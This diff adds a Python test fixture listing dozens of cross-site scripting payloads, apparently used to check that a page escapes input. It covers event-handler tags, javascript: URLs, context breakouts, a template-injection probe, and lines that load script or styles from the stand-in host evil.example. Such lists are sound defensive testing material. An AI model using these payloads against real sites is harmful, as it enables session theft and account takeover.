@@ -1,0 +1,73 @@
+"""Sixty texts that become scripts where a page forgets to escape, and where each has worked."""
+
+from __future__ import annotations
+
+from typing import Final
+
+# Each calls alert or sets a mark if it runs; `page` listens for both.
+PAYLOADS: Final[tuple[str, ...]] = (
+    # elements
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>/*</script><script>*/alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert(1)//",
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<button form=x formaction='javascript:alert(1)'>x</button>",
+    "<form action='javascript:alert(1)'><input type=submit></form>",
+    "<isindex action='javascript:alert(1)' type=image>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href='//evil.example/'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href='javascript:alert(1)' autofocus>x</a>",
+    "<x onpointerrawupdate=alert(1) style='position:fixed;inset:0'>x",
+    "<div popover id=p onbeforetoggle=alert(1)>x</div>",
+    # out of what stands around the text
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" autofocus onfocus=alert(1) x="',
+    "' autofocus onfocus=alert(1) x='",
+    "` onmouseover=alert(1) x=`",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "</bdi></h1><img src=x onerror=alert(1)>",
+    "</svg><img src=x onerror=alert(1)>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "*/alert(1)/*",
+    "';alert(1);//",
+    "\\';alert(1);//",
+    "</script><script>alert(1)</script>",
+    # addresses
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "//evil.example/%2f..",
+    "../../claims?x=<script>alert(1)</script>",
+    # templates
+    "{{ ''.__class__.__mro__ }}",
+    "{% raw %}${alert(1)}{% endraw %}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+)
